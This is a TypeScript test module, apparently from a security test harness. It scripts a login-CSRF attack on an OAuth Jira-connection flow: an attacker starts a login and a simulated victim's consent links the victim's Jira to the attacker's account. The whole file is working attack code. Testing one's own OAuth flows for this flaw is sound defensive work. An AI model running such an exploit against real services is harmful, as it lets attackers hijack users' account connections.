import type { Attack } from './attack.ts'
import { createUser, findConnectedAccount, signIn, Visitor } from './person.ts'

/**
 * Login CSRF (RFC 9700 section 4.7): the attacker starts a login as themselves and sends Atlassian's
 * address to a victim, whose consent then connects the victim's Jira to the attacker.
 */
export const attack: Attack = {
  name: 'connect the Jira of a victim who opens a link of the attacker',
  item: 1,
  run: async (target) => {
    const email = `attacker-${Date.now()}@example.com`
    const headers = { ...(await signIn(target, email)), accept: 'application/json' }
    const login = await fetch(`${target.baseUrl}/auth/jira/login`, { headers })
    const { url = '' } = (await login.json()) as { url?: string }
    const victim = new Visitor(target)
    const callback = await victim.consent(url, 'sam').catch(() => null)
    if (callback !== null) await victim.open(callback)
    const account = await findConnectedAccount(target, await createUser(target, email))
    return {
      reached: account !== undefined,
      evidence:
        account === undefined
          ? `the login answers ${login.status} with ${new URL(url, target.baseUrl).pathname}`
          : `the attacker is connected to the account ${account} of the victim`
    }
  }
}
